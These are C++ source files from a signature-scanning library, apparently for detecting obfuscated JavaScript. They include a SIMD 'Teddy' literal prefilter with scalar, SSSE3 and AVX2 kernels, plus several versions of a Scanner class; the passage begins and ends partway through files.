  static constexpr std::size_t kBuckets = 8;
  // Literals shorter than the prefix window would force a 1–2 byte first
  // stage with hit densities that drown the confirm step; the automaton
  // handles those sets instead.
  static constexpr std::size_t kMinLiteralLen = 3;
  // Beyond this the buckets get so crowded that first-stage hits stop
  // being sparse; the automaton's one-pass scan wins again.
  static constexpr std::size_t kMaxLiterals = 4096;

  // Compiles a plan, or nullopt when the literal set does not qualify.
  static std::optional<Plan> build(std::vector<Literal> literals);

  std::size_t prefix_len() const { return k_; }  // 3 or 4
  std::size_t max_literal_len() const { return max_len_; }
  std::size_t literal_count() const { return lits_.size(); }

  // First stage: scans `text` and overwrites `hits` with every candidate
  // position, in ascending order. Thread-safe (the plan is immutable).
  void scan(std::string_view text, HitBuffer& hits) const;
  void scan(std::string_view text, HitBuffer& hits, Impl impl) const;

  // Second stage: confirms `hits` against `text` by exact literal
  // comparison. Every id whose literal occurs at a hit and is not yet
  // marked in `seen` (indexed by id, sized by the caller) is marked and
  // appended to `out`. Returns the updated seen-count; stops early once it
  // reaches `stop_at` (every filterable id found).
  std::size_t confirm(std::string_view text, const HitBuffer& hits,
                      std::vector<std::uint8_t>& seen,
                      std::vector<std::size_t>& out, std::size_t n_seen,
                      std::size_t stop_at) const;

 private:
  Plan() = default;

  // K bytes as a big-endian integer (first byte most significant), the
  // bucket-local confirmation key of a literal's chosen window.
  std::uint32_t window_key(const char* p) const;

  struct Entry {
    std::uint32_t window = 0;   // window_key of the literal's rare window
    std::uint32_t literal = 0;  // index into lits_
  };

  // Nibble shuffle tables, one row per window position (rows >= k_ stay
  // zero): lo_[p][n] is the bucket mask of literals whose window byte p
  // has low nibble n; hi_ likewise for the high nibble. 16-byte aligned so
  // the vector kernels can load them directly.
  alignas(16) std::uint8_t lo_[4][16] = {};
  alignas(16) std::uint8_t hi_[4][16] = {};
  // The same tables packed for the scalar kernel: byte p of lo64_[n] is
  // lo_[p][n], so one 64-bit AND evaluates all K positions per byte.
  std::uint64_t lo64_[16] = {};
  std::uint64_t hi64_[16] = {};

  std::size_t k_ = 3;
  std::size_t max_len_ = 0;
  std::vector<Literal> lits_;
  std::vector<std::uint32_t> off_;  // per-literal rare-window offset
  std::vector<Entry> entries_;  // grouped by bucket, sorted by window within
  std::array<std::uint32_t, kBuckets + 1> bucket_begin_ = {};
};

}  // namespace kizzle::match::teddy
