#include "match/scanner.h"

#include <stdexcept>

namespace kizzle::match {

std::size_t Scanner::add(std::string name, Pattern pattern) {
  entries_.push_back(Entry{std::move(name), std::move(pattern)});
  return entries_.size() - 1;
}

const std::string& Scanner::name(std::size_t index) const {
  if (index >= entries_.size()) {
    throw std::out_of_range("Scanner::name: bad index");
  }
  return entries_[index].name;
}

const Pattern& Scanner::pattern(std::size_t index) const {
  if (index >= entries_.size()) {
    throw std::out_of_range("Scanner::pattern: bad index");
  }
  return entries_[index].pattern;
}

std::vector<ScanHit> Scanner::scan(std::string_view text) const {
  std::vector<ScanHit> hits;
  for (std::size_t i = 0; i < entries_.size(); ++i) {
    const MatchResult r = entries_[i].pattern.search(text);
    if (r.budget_exceeded) {
      ++budget_exceeded_;
      continue;
    }
    if (r.matched) hits.push_back(ScanHit{i, r.begin, r.end});
  }
  return hits;
}

bool Scanner::any_match(std::string_view text) const {
  for (const Entry& e : entries_) {
    const MatchResult r = e.pattern.search(text);
    if (r.budget_exceeded) {
      ++budget_exceeded_;
      continue;
    }
    if (r.matched) return true;
  }
  return false;
}

}  // namespace kizzle::match
