#include "match/scanner.h"

#include <stdexcept>

#include "support/thread_pool.h"

namespace kizzle::match {

std::size_t Scanner::add(std::string name, Pattern pattern) {
  entries_.push_back(Entry{std::move(name), std::move(pattern)});
  prefilter_.invalidate();
  return entries_.size() - 1;
}

const std::string& Scanner::name(std::size_t index) const {
  if (index >= entries_.size()) {
    throw std::out_of_range("Scanner::name: bad index");
  }
  return entries_[index].name;
}

const Pattern& Scanner::pattern(std::size_t index) const {
  if (index >= entries_.size()) {
    throw std::out_of_range("Scanner::pattern: bad index");
  }
  return entries_[index].pattern;
}

const LiteralPrefilter& Scanner::prefilter() const {
  return prefilter_.ensure([this](LiteralPrefilter& pf) {
    for (std::size_t i = 0; i < entries_.size(); ++i) {
      pf.add(i, entries_[i].pattern.required_literal());
    }
  });
}

void Scanner::scan_into(std::string_view text,
                        const LiteralPrefilter& prefilter,
                        std::vector<std::size_t>& candidates,
                        std::vector<ScanHit>& hits) const {
  prefilter.candidates_into(text, candidates);
  hits.clear();
  hits.reserve(candidates.size());
  for (const std::size_t i : candidates) {
    const MatchResult r = entries_[i].pattern.search(text);
    if (r.budget_exceeded) {
      budget_exceeded_.fetch_add(1, std::memory_order_relaxed);
      continue;
    }
    if (r.matched) hits.push_back(ScanHit{i, r.begin, r.end});
  }
}

std::vector<ScanHit> Scanner::scan(std::string_view text) const {
  std::vector<std::size_t> candidates;
  std::vector<ScanHit> hits;
  scan_into(text, prefilter(), candidates, hits);
  return hits;
}

std::vector<ScanHit> Scanner::scan_brute_force(std::string_view text) const {
  std::vector<ScanHit> hits;
  for (std::size_t i = 0; i < entries_.size(); ++i) {
    const MatchResult r = entries_[i].pattern.search(text);
    if (r.budget_exceeded) {
      budget_exceeded_.fetch_add(1, std::memory_order_relaxed);
      continue;
    }
    if (r.matched) hits.push_back(ScanHit{i, r.begin, r.end});
  }
  return hits;
}

std::vector<std::vector<ScanHit>> Scanner::scan_batch(
    std::span<const std::string> texts, ThreadPool& pool) const {
  const LiteralPrefilter& pf = prefilter();  // build once, before fan-out
  std::vector<std::vector<ScanHit>> results(texts.size());
  pool.parallel_for(texts.size(), [&](std::size_t i) {
    // Candidate/hit buffers are per-task; the automaton and patterns are
    // shared read-only.
    std::vector<std::size_t> candidates;
    scan_into(texts[i], pf, candidates, results[i]);
  });
  return results;
}

std::vector<std::vector<ScanHit>> Scanner::scan_batch(
    std::span<const std::string> texts, std::size_t threads) const {
  if (texts.size() < 2) {
    std::vector<std::vector<ScanHit>> results(texts.size());
    if (!texts.empty()) results[0] = scan(texts[0]);
    return results;
  }
  ThreadPool pool(threads);
  return scan_batch(texts, pool);
}

bool Scanner::any_match(std::string_view text) const {
  std::vector<std::size_t> candidates;
  prefilter().candidates_into(text, candidates);
  for (const std::size_t i : candidates) {
    const MatchResult r = entries_[i].pattern.search(text);
    if (r.budget_exceeded) {
      budget_exceeded_.fetch_add(1, std::memory_order_relaxed);
      continue;
    }
    if (r.matched) return true;
  }
  return false;
}

}  // namespace kizzle::match
