#include "match/scanner.h"

#include <stdexcept>

#include "support/thread_pool.h"

namespace kizzle::match {

std::size_t Scanner::add(std::string name, Pattern pattern) {
  entries_.push_back(Entry{std::move(name), std::move(pattern)});
  database_.invalidate();
  return entries_.size() - 1;
}

const std::string& Scanner::name(std::size_t index) const {
  if (index >= entries_.size()) {
    throw std::out_of_range("Scanner::name: bad index");
  }
  return entries_[index].name;
}

const Pattern& Scanner::pattern(std::size_t index) const {
  if (index >= entries_.size()) {
    throw std::out_of_range("Scanner::pattern: bad index");
  }
  return entries_[index].pattern;
}

const engine::Database& Scanner::database() const {
  return database_.ensure([this] {
    std::vector<engine::Database::Entry> compiled;
    compiled.reserve(entries_.size());
    for (const Entry& e : entries_) {
      compiled.push_back(engine::Database::Entry{e.name, "", e.pattern});
    }
    return engine::Database::from_entries(std::move(compiled));
  });
}

void Scanner::scan_into(std::string_view text, const engine::Database& db,
                        engine::Scratch& scratch,
                        std::vector<ScanHit>& hits) const {
  hits.clear();
  const engine::ScanOutcome outcome =
      engine::scan(db, text, scratch, [&hits](const engine::MatchEvent& event) {
        hits.push_back(ScanHit{event.sig_index, event.begin, event.end});
        return engine::ScanDecision::Continue;
      });
  if (outcome.budget_exceeded != 0) {  // don't touch the shared line for 0
    budget_exceeded_.fetch_add(outcome.budget_exceeded,
                               std::memory_order_relaxed);
  }
}

std::vector<ScanHit> Scanner::scan(std::string_view text) const {
  const engine::Database& db = database();
  auto scratch = scratches_.acquire();
  std::vector<ScanHit> hits;
  scan_into(text, db, *scratch, hits);
  return hits;
}

std::vector<ScanHit> Scanner::scan_brute_force(std::string_view text) const {
  std::vector<ScanHit> hits;
  for (std::size_t i = 0; i < entries_.size(); ++i) {
    const MatchResult r = entries_[i].pattern.search(text);
    if (r.budget_exceeded) {
      budget_exceeded_.fetch_add(1, std::memory_order_relaxed);
      continue;
    }
    if (r.matched) hits.push_back(ScanHit{i, r.begin, r.end});
  }
  return hits;
}

std::vector<std::vector<ScanHit>> Scanner::scan_batch(
    std::span<const std::string> texts, ThreadPool& pool) const {
  const engine::Database& db = database();  // build once, before fan-out
  std::vector<std::vector<ScanHit>> results(texts.size());
  // The database is shared read-only; each range task scans out of one
  // pooled scratch (per-range, not per-text, to keep the pool mutex off
  // the per-sample path).
  pool.parallel_ranges(
      texts.size(), pool.size() * 4,
      [&](std::size_t, std::size_t begin, std::size_t end) {
        auto scratch = scratches_.acquire();
        for (std::size_t i = begin; i < end; ++i) {
          scan_into(texts[i], db, *scratch, results[i]);
        }
      });
  return results;
}

std::vector<std::vector<ScanHit>> Scanner::scan_batch(
    std::span<const std::string> texts, std::size_t threads) const {
  if (texts.size() < 2) {
    std::vector<std::vector<ScanHit>> results(texts.size());
    if (!texts.empty()) results[0] = scan(texts[0]);
    return results;
  }
  ThreadPool pool(threads);
  return scan_batch(texts, pool);
}

bool Scanner::any_match(std::string_view text) const {
  const engine::Database& db = database();
  auto scratch = scratches_.acquire();
  bool found = false;
  const engine::ScanOutcome outcome =
      engine::scan(db, text, *scratch, [&found](const engine::MatchEvent&) {
        found = true;
        return engine::ScanDecision::Stop;
      });
  if (outcome.budget_exceeded != 0) {
    budget_exceeded_.fetch_add(outcome.budget_exceeded,
                               std::memory_order_relaxed);
  }
  return found;
}

}  // namespace kizzle::match
