#include "match/teddy.h"

#include <algorithm>
#include <cmath>
#include <cstring>

#if defined(__x86_64__) && (defined(__GNUC__) || defined(__clang__))
#define KIZZLE_TEDDY_X86 1
#include <immintrin.h>
#endif

namespace kizzle::match::teddy {

// Static commonness prior for normalized JS/HTML content, added to the
// literal-set frequency when scoring candidate windows. The set frequency
// alone is misleading: a byte can be rare among the registered literals yet
// saturate the scanned text (digit streams in charcode packers), and
// anchoring a bucket on it makes the first stage fire on every byte.
double byte_prior(unsigned char b) {
  if (b >= '0' && b <= '9') return 8.0;  // charcode/hex payload streams
  switch (b) {
    case ' ': case '\t': case '\r': case '\n': case '\f': case '\v':
    case '"': case '\'':
      // Absent from normalized text (normalization strips them — any
      // anchor works there), but they saturate raw source, which the
      // engine also scans.
      return 7.0;
  }
  if ((b >= 'a' && b <= 'z') || b == '_' || b == '$') return 6.0;
  if (b >= 'A' && b <= 'Z') return 5.0;  // randomized mixed-case idents
  switch (b) {
    case ';': case ',': case '.': case '(': case ')': case '=':
    case '+': case '-': case '*': case '/': case '[': case ']':
    case '{': case '}': case ':': case '<': case '>': case '!':
    case '&': case '|': case '?': case '%':
      return 4.0;  // expression/statement punctuation
    default:
      return 1.0;  // genuinely uncommon in normalized script text
  }
}

double byte_prior_probability(unsigned char b) {
  static const double total = [] {
    double t = 0.0;
    for (int c = 0; c < 256; ++c) {
      t += byte_prior(static_cast<unsigned char>(c));
    }
    return t;
  }();
  return byte_prior(b) / total;
}

namespace {

// ------------------------------- scalar -------------------------------
//
// The shift-or pipeline in one 64-bit word. After processing byte i, lane p
// (8- or 16-bit lanes, matching the plan's bucket width) holds the buckets
// whose window bytes 0..p all matched text[i-p..i]; the transition shifts
// every lane up by one byte (lane 0 refilled with all-ones) and ANDs the
// per-position masks of the current byte — which is exactly the vector
// kernels' dataflow, one byte at a time. A non-zero lane k-1 is a
// candidate ending at i.
void scan_scalar(const std::uint64_t* lo64, const std::uint64_t* hi64,
                 std::size_t k, unsigned lane_bits, const unsigned char* data,
                 std::size_t n, HitBuffer& hits) {
  const unsigned hit_shift = static_cast<unsigned>(lane_bits * (k - 1));
  const std::uint64_t lane_ones = (lane_bits == 8) ? 0xFFu : 0xFFFFu;
  std::uint64_t st = 0;
  for (std::size_t i = 0; i < n; ++i) {
    const unsigned char b = data[i];
    const std::uint64_t t = lo64[b & 15] & hi64[b >> 4];
    st = ((st << lane_bits) | lane_ones) & t;
    const auto m = static_cast<std::uint16_t>((st >> hit_shift) & lane_ones);
    if (m != 0) {
      // Lane k-1 cannot fill before k bytes were consumed, so i >= k-1.
      hits.push_back(Hit{static_cast<std::uint32_t>(i - (k - 1)), m});
    }
  }
}

#if KIZZLE_TEDDY_X86

// Appends the candidates of one block's combined mask. `base` is the text
// offset of the block's byte 0; bit idx of `nz` set means res byte idx is a
// non-zero bucket mask for a window *ending* at base+idx. The `at + k <= n`
// filter drops phantom candidates produced by the zero padding of the final
// partial block (a hit at a valid `at` only ever depends on real bytes);
// it also rejects the underflowed `at` of a window that would start before
// the text.
inline void emit_hits(const std::uint8_t* res, std::uint32_t nz,
                      std::size_t base, std::size_t k, std::size_t n,
                      HitBuffer& hits) {
  while (nz != 0) {
    const unsigned idx = static_cast<unsigned>(__builtin_ctz(nz));
    nz &= nz - 1;
    const std::size_t at = base + idx - (k - 1);
    if (at + k <= n) {
      hits.push_back(Hit{static_cast<std::uint32_t>(at), res[idx]});
    }
  }
}

// Fat variant: res holds the low mask bytes of 16 positions in bytes
// 0..15 and the high mask bytes in bytes 16..31 (the two 128-bit lanes of
// the Fat kernel's result vector).
inline void emit_hits_fat(const std::uint8_t* res, std::uint32_t nz,
                          std::size_t base, std::size_t k, std::size_t n,
                          HitBuffer& hits) {
  while (nz != 0) {
    const unsigned idx = static_cast<unsigned>(__builtin_ctz(nz));
    nz &= nz - 1;
    const std::size_t at = base + idx - (k - 1);
    if (at + k <= n) {
      const auto mask = static_cast<std::uint16_t>(
          res[idx] | (static_cast<unsigned>(res[16 + idx]) << 8));
      hits.push_back(Hit{static_cast<std::uint32_t>(at), mask});
    }
  }
}

// ------------------------------- SSSE3 -------------------------------

__attribute__((target("ssse3"))) void scan_ssse3(
    const std::uint8_t (*lo)[32], const std::uint8_t (*hi)[32], std::size_t k,
    const unsigned char* data, std::size_t n, HitBuffer& hits) {
  const __m128i nib = _mm_set1_epi8(0x0F);
  const __m128i zero = _mm_setzero_si128();
  __m128i tl[4], th[4], prev[4];
  for (std::size_t p = 0; p < k; ++p) {
    tl[p] = _mm_load_si128(reinterpret_cast<const __m128i*>(lo[p]));
    th[p] = _mm_load_si128(reinterpret_cast<const __m128i*>(hi[p]));
    prev[p] = zero;  // first block: no window can start before the text
  }

  alignas(16) std::uint8_t resbuf[16];
  std::size_t base = 0;
  for (;;) {
    __m128i v;
    if (base + 16 <= n) {
      v = _mm_loadu_si128(reinterpret_cast<const __m128i*>(data + base));
    } else if (base < n) {
      alignas(16) unsigned char tail[16] = {};
      std::memcpy(tail, data + base, n - base);
      v = _mm_load_si128(reinterpret_cast<const __m128i*>(tail));
    } else {
      break;
    }
    const __m128i vlo = _mm_and_si128(v, nib);
    const __m128i vhi = _mm_and_si128(_mm_srli_epi16(v, 4), nib);
    __m128i r[4];
    for (std::size_t p = 0; p < k; ++p) {
      r[p] = _mm_and_si128(_mm_shuffle_epi8(tl[p], vlo),
                           _mm_shuffle_epi8(th[p], vhi));
    }
    // res byte i = r[k-1][i] & r[k-2][i-1] & ... & r[0][i-(k-1)], the
    // shifted lanes carrying in from the previous block via alignr. K=1
    // degenerates to a pure table lookup.
    __m128i res = r[k - 1];
    if (k >= 2) {
      res = _mm_and_si128(res, _mm_alignr_epi8(r[k - 2], prev[k - 2], 15));
    }
    if (k >= 3) {
      res = _mm_and_si128(res, _mm_alignr_epi8(r[k - 3], prev[k - 3], 14));
    }
    if (k == 4) {
      res = _mm_and_si128(res, _mm_alignr_epi8(r[0], prev[0], 13));
    }
    for (std::size_t p = 0; p < k; ++p) prev[p] = r[p];

    const auto nz = static_cast<std::uint32_t>(
        _mm_movemask_epi8(_mm_cmpeq_epi8(res, zero)) ^ 0xFFFF);
    if (nz != 0) {
      _mm_store_si128(reinterpret_cast<__m128i*>(resbuf), res);
      emit_hits(resbuf, nz, base, k, n, hits);
    }
    base += 16;
  }
}

// ------------------------------- AVX2 -------------------------------

// result[i] = cur[i - S] with carry-in from the previous block's top bytes
// (vpalignr shuffles per 128-bit lane, so the cross-lane carry vector is
// materialized first).
__attribute__((target("avx2"))) inline __m256i shift_carry_1(__m256i cur,
                                                             __m256i prev) {
  const __m256i t = _mm256_permute2x128_si256(prev, cur, 0x21);
  return _mm256_alignr_epi8(cur, t, 15);
}
__attribute__((target("avx2"))) inline __m256i shift_carry_2(__m256i cur,
                                                             __m256i prev) {
  const __m256i t = _mm256_permute2x128_si256(prev, cur, 0x21);
  return _mm256_alignr_epi8(cur, t, 14);
}
__attribute__((target("avx2"))) inline __m256i shift_carry_3(__m256i cur,
                                                             __m256i prev) {
  const __m256i t = _mm256_permute2x128_si256(prev, cur, 0x21);
  return _mm256_alignr_epi8(cur, t, 13);
}

__attribute__((target("avx2"))) void scan_avx2(
    const std::uint8_t (*lo)[32], const std::uint8_t (*hi)[32], std::size_t k,
    const unsigned char* data, std::size_t n, HitBuffer& hits) {
  const __m256i nib = _mm256_set1_epi8(0x0F);
  const __m256i zero = _mm256_setzero_si256();
  __m256i tl[4], th[4], prev[4];
  for (std::size_t p = 0; p < k; ++p) {
    // One 16-entry table per 128-bit lane: vpshufb looks up per lane.
    tl[p] = _mm256_broadcastsi128_si256(
        _mm_load_si128(reinterpret_cast<const __m128i*>(lo[p])));
    th[p] = _mm256_broadcastsi128_si256(
        _mm_load_si128(reinterpret_cast<const __m128i*>(hi[p])));
    prev[p] = zero;
  }

  alignas(32) std::uint8_t resbuf[32];
  std::size_t base = 0;
  for (;;) {
    __m256i v;
    if (base + 32 <= n) {
      v = _mm256_loadu_si256(reinterpret_cast<const __m256i*>(data + base));
    } else if (base < n) {
      alignas(32) unsigned char tail[32] = {};
      std::memcpy(tail, data + base, n - base);
      v = _mm256_load_si256(reinterpret_cast<const __m256i*>(tail));
    } else {
      break;
    }
    const __m256i vlo = _mm256_and_si256(v, nib);
    const __m256i vhi = _mm256_and_si256(_mm256_srli_epi16(v, 4), nib);
    __m256i r[4];
    for (std::size_t p = 0; p < k; ++p) {
      r[p] = _mm256_and_si256(_mm256_shuffle_epi8(tl[p], vlo),
                              _mm256_shuffle_epi8(th[p], vhi));
    }
    __m256i res = r[k - 1];
    if (k >= 2) {
      res = _mm256_and_si256(res, shift_carry_1(r[k - 2], prev[k - 2]));
    }
    if (k >= 3) {
      res = _mm256_and_si256(res, shift_carry_2(r[k - 3], prev[k - 3]));
    }
    if (k == 4) {
      res = _mm256_and_si256(res, shift_carry_3(r[0], prev[0]));
    }
    for (std::size_t p = 0; p < k; ++p) prev[p] = r[p];

    const auto nz = ~static_cast<std::uint32_t>(
        _mm256_movemask_epi8(_mm256_cmpeq_epi8(res, zero)));
    if (nz != 0) {
      _mm256_store_si256(reinterpret_cast<__m256i*>(resbuf), res);
      emit_hits(resbuf, nz, base, k, n, hits);
    }
    base += 32;
  }
}

// ----------------------------- Fat AVX2 -----------------------------
//
// 16-bucket kernel: 16 haystack bytes per step, duplicated across both
// 128-bit lanes. The table vector's low lane holds the low mask bytes
// (buckets 0–7) and its high lane the high mask bytes (8–15), so one
// vpshufb resolves both halves of every position's 16-bit bucket mask at
// once. The shift-AND pipeline runs per lane — each lane is an independent
// mask plane over the SAME 16 text positions, so vpalignr's per-lane
// semantics give exactly the carry each plane needs (the previous block's
// top bytes of the same plane), with no cross-lane permute.
__attribute__((target("avx2"))) void scan_avx2_fat(
    const std::uint8_t (*lo)[32], const std::uint8_t (*hi)[32], std::size_t k,
    const unsigned char* data, std::size_t n, HitBuffer& hits) {
  const __m256i nib = _mm256_set1_epi8(0x0F);
  __m256i tl[4], th[4], prev[4];
  for (std::size_t p = 0; p < k; ++p) {
    tl[p] = _mm256_load_si256(reinterpret_cast<const __m256i*>(lo[p]));
    th[p] = _mm256_load_si256(reinterpret_cast<const __m256i*>(hi[p]));
    prev[p] = _mm256_setzero_si256();
  }

  alignas(32) std::uint8_t resbuf[32];
  std::size_t base = 0;
  for (;;) {
    __m128i v128;
    if (base + 16 <= n) {
      v128 = _mm_loadu_si128(reinterpret_cast<const __m128i*>(data + base));
    } else if (base < n) {
      alignas(16) unsigned char tail[16] = {};
      std::memcpy(tail, data + base, n - base);
      v128 = _mm_load_si128(reinterpret_cast<const __m128i*>(tail));
    } else {
      break;
    }
    const __m256i v = _mm256_broadcastsi128_si256(v128);
    const __m256i vlo = _mm256_and_si256(v, nib);
    const __m256i vhi = _mm256_and_si256(_mm256_srli_epi16(v, 4), nib);
    __m256i r[4];
    for (std::size_t p = 0; p < k; ++p) {
      r[p] = _mm256_and_si256(_mm256_shuffle_epi8(tl[p], vlo),
                              _mm256_shuffle_epi8(th[p], vhi));
    }
    // Per-lane shift with per-lane carry: lane L byte 0 pulls the previous
    // block's lane L byte 15 — precisely this plane's preceding position.
    __m256i res = r[k - 1];
    if (k >= 2) {
      res = _mm256_and_si256(res, _mm256_alignr_epi8(r[k - 2], prev[k - 2], 15));
    }
    if (k >= 3) {
      res = _mm256_and_si256(res, _mm256_alignr_epi8(r[k - 3], prev[k - 3], 14));
    }
    if (k == 4) {
      res = _mm256_and_si256(res, _mm256_alignr_epi8(r[0], prev[0], 13));
    }
    for (std::size_t p = 0; p < k; ++p) prev[p] = r[p];

    const __m128i any =
        _mm_or_si128(_mm256_castsi256_si128(res),
                     _mm256_extracti128_si256(res, 1));
    const auto nz = static_cast<std::uint32_t>(
        _mm_movemask_epi8(_mm_cmpeq_epi8(any, _mm_setzero_si128())) ^ 0xFFFF);
    if (nz != 0) {
      _mm256_store_si256(reinterpret_cast<__m256i*>(resbuf), res);
      emit_hits_fat(resbuf, nz, base, k, n, hits);
    }
    base += 16;
  }
}

#endif  // KIZZLE_TEDDY_X86

}  // namespace

// ------------------------------ dispatch ------------------------------

bool impl_available(Impl impl) {
  switch (impl) {
    case Impl::kScalar:
      return true;
#if KIZZLE_TEDDY_X86
    case Impl::kSsse3:
      return __builtin_cpu_supports("ssse3") != 0;
    case Impl::kAvx2:
      return __builtin_cpu_supports("avx2") != 0;
#else
    case Impl::kSsse3:
    case Impl::kAvx2:
      return false;
#endif
  }
  return false;
}

Impl best_impl() {
  static const Impl best = [] {
    if (impl_available(Impl::kAvx2)) return Impl::kAvx2;
    if (impl_available(Impl::kSsse3)) return Impl::kSsse3;
    return Impl::kScalar;
  }();
  return best;
}

const char* impl_name(Impl impl) {
  switch (impl) {
    case Impl::kScalar:
      return "scalar";
    case Impl::kSsse3:
      return "ssse3";
    case Impl::kAvx2:
      return "avx2";
  }
  return "?";
}

// -------------------------------- plan --------------------------------

std::uint32_t Plan::window_key(const char* p) const {
  std::uint32_t v = 0;
  for (std::size_t i = 0; i < k_; ++i) {
    v = (v << 8) | static_cast<unsigned char>(p[i]);
  }
  return v;
}

std::optional<Plan> Plan::build(std::vector<Literal> literals,
                                std::size_t n_buckets) {
  if (literals.empty() || literals.size() > kShardMaxLiterals) {
    return std::nullopt;
  }
  if (n_buckets != kBuckets && n_buckets != kFatBuckets) return std::nullopt;
  std::size_t min_len = literals.front().text.size();
  std::size_t max_len = 0;
  for (const Literal& lit : literals) {
    if (lit.text.empty()) return std::nullopt;
    min_len = std::min(min_len, lit.text.size());
    max_len = std::max(max_len, lit.text.size());
  }

  Plan plan;
  plan.k_ = std::min<std::size_t>(4, min_len);
  plan.n_buckets_ = n_buckets;
  plan.max_len_ = max_len;

  // Rare-window selection. Byte frequencies over the literal set itself
  // approximate the scanned content's distribution (deployed literals are
  // chunks of real samples), so windows built around the literal's rarest
  // byte are the ones least likely to light up on unrelated text — head
  // bytes would be the worst possible pick for similarly-shaped signatures
  // (shared packer idioms, digit streams).
  //
  // Rarity alone is not enough, though: a bucket's masks OR its members
  // per position, and res is the AND across positions, so a bucket stays
  // sparse only if its members put their rare byte at the SAME window
  // position (one sparse row kills the AND). Each window therefore records
  // the position of its rarest byte as its anchor, and bucket assignment
  // below groups by anchor first.
  std::array<std::uint32_t, 256> freq{};
  for (const Literal& lit : literals) {
    for (const char c : lit.text) ++freq[static_cast<unsigned char>(c)];
  }
  // The static prior dominates; the set frequency only orders bytes within
  // a commonness class (a byte every literal carries — a shared salt, a
  // packer marker — must still beat moderately-rare punctuation, and its
  // set count says nothing about the scanned text).
  std::array<double, 256> cost{};
  for (std::size_t b = 0; b < 256; ++b) {
    cost[b] = byte_prior(static_cast<unsigned char>(b)) +
              0.25 * std::log2(1.0 + static_cast<double>(freq[b]));
  }
  const std::size_t n = literals.size();
  std::vector<std::uint32_t> window_off(n, 0);
  std::vector<std::uint32_t> anchor_of(n, 0);
  for (std::size_t i = 0; i < n; ++i) {
    const std::string& text = literals[i].text;
    double best_rare = 0;
    double best_total = 0;
    for (std::size_t off = 0; off + plan.k_ <= text.size(); ++off) {
      double rare = cost[static_cast<unsigned char>(text[off])];
      std::size_t anchor = 0;
      double total = rare;
      for (std::size_t p = 1; p < plan.k_; ++p) {
        const double c = cost[static_cast<unsigned char>(text[off + p])];
        total += c;
        if (c < rare) {
          rare = c;
          anchor = p;
        }
      }
      if (off == 0 || rare < best_rare ||
          (rare == best_rare && total < best_total)) {
        best_rare = rare;
        best_total = total;
        window_off[i] = static_cast<std::uint32_t>(off);
        anchor_of[i] = static_cast<std::uint32_t>(anchor);
      }
    }
  }

  // Sort by (anchor, rare byte, window): literals that agree on where their
  // rare byte sits — and on what it is — cluster, so the chunked bucket
  // assignment keeps every bucket's anchor row sparse (a chunk boundary
  // inside a run of equal rare bytes costs nothing; a bucket mixing many
  // distinct anchor bytes would re-densify its one sparse row).
  std::vector<std::uint32_t> order(n);
  for (std::size_t i = 0; i < n; ++i) order[i] = static_cast<std::uint32_t>(i);
  std::sort(order.begin(), order.end(),
            [&](std::uint32_t a, std::uint32_t b) {
              if (anchor_of[a] != anchor_of[b]) {
                return anchor_of[a] < anchor_of[b];
              }
              const std::string_view wa =
                  std::string_view(literals[a].text).substr(window_off[a]);
              const std::string_view wb =
                  std::string_view(literals[b].text).substr(window_off[b]);
              const unsigned char ra = wa[anchor_of[a]];
              const unsigned char rb = wb[anchor_of[b]];
              if (ra != rb) return ra < rb;
              if (wa != wb) return wa < wb;
              if (literals[a].text != literals[b].text) {
                return literals[a].text < literals[b].text;
              }
              return literals[a].id < literals[b].id;
            });
  plan.lits_.reserve(n);
  plan.off_.reserve(n);
  std::vector<std::uint32_t> anchors(n);
  for (std::size_t i = 0; i < n; ++i) {
    anchors[i] = anchor_of[order[i]];
    plan.off_.push_back(window_off[order[i]]);
    plan.lits_.push_back(std::move(literals[order[i]]));
  }

  // Bucket allocation. Two invariants keep every bucket's anchor row
  // sparse: (1) a bucket never mixes anchor *positions* (the one sparse
  // row would disappear from the AND), and (2) bucket boundaries snap to
  // rare-byte cluster edges, so a handful of literals anchored on a
  // different byte get their own bucket instead of widening the anchor row
  // of a large homogeneous one. Splitting WITHIN a run of equal rare bytes
  // is free — the split buckets share the same one-byte anchor row.
  std::vector<std::uint8_t> bucket_of(n);
  {
    // Rare-byte clusters: maximal runs of equal (anchor position, anchor
    // byte), contiguous thanks to the sort above.
    std::vector<std::pair<std::size_t, std::size_t>> clusters;  // [begin,end)
    const auto anchor_byte = [&](std::size_t i) {
      return static_cast<unsigned char>(
          plan.lits_[i].text[plan.off_[i] + anchors[i]]);
    };
    for (std::size_t i = 0; i < n;) {
      std::size_t j = i;
      while (j < n && anchors[j] == anchors[i] &&
             anchor_byte(j) == anchor_byte(i)) {
        ++j;
      }
      clusters.emplace_back(i, j);
      i = j;
    }

    if (clusters.size() >= n_buckets) {
      // More distinct rare bytes than buckets: pack whole clusters
      // greedily toward even bucket sizes. Anchor positions may mix at
      // cluster seams, which is unavoidable past n_buckets distinct
      // anchors.
      std::size_t bucket = 0;
      std::size_t filled = 0;
      const std::size_t target = (n + n_buckets - 1) / n_buckets;
      for (std::size_t c = 0; c < clusters.size(); ++c) {
        const auto [begin, end] = clusters[c];
        if (filled > 0 && filled + (end - begin) > target &&
            bucket + 1 < n_buckets) {
          ++bucket;
          filled = 0;
        }
        for (std::size_t i = begin; i < end; ++i) {
          bucket_of[i] = static_cast<std::uint8_t>(bucket);
        }
        filled += end - begin;
      }
    } else {
      // Every cluster gets at least one bucket; leftover buckets go to the
      // largest per-bucket clusters (splitting them evenly is free).
      std::vector<std::size_t> share(clusters.size(), 1);
      for (std::size_t extra = n_buckets - clusters.size(); extra > 0;
           --extra) {
        std::size_t best = 0;
        for (std::size_t c = 1; c < clusters.size(); ++c) {
          const std::size_t size_c = clusters[c].second - clusters[c].first;
          const std::size_t size_b =
              clusters[best].second - clusters[best].first;
          if (size_c * share[best] > size_b * share[c]) best = c;
        }
        ++share[best];
      }
      std::size_t next_bucket = 0;
      for (std::size_t c = 0; c < clusters.size(); ++c) {
        const auto [begin, end] = clusters[c];
        const std::size_t size = end - begin;
        for (std::size_t i = begin; i < end; ++i) {
          bucket_of[i] = static_cast<std::uint8_t>(
              next_bucket + (i - begin) * share[c] / size);
        }
        next_bucket += share[c];
      }
    }
  }
  for (std::size_t i = 0; i < n; ++i) {
    const char* window = plan.lits_[i].text.data() + plan.off_[i];
    // Buckets 0–7 live in table bytes 0..15, buckets 8–15 (Fat) in bytes
    // 16..31 — the two 128-bit lanes of the Fat kernel's table vector.
    const std::size_t half = bucket_of[i] < 8 ? 0 : 16;
    const auto bit = static_cast<std::uint8_t>(1u << (bucket_of[i] & 7));
    for (std::size_t p = 0; p < plan.k_; ++p) {
      const auto c = static_cast<unsigned char>(window[p]);
      plan.lo_[p][half + (c & 15)] |= bit;
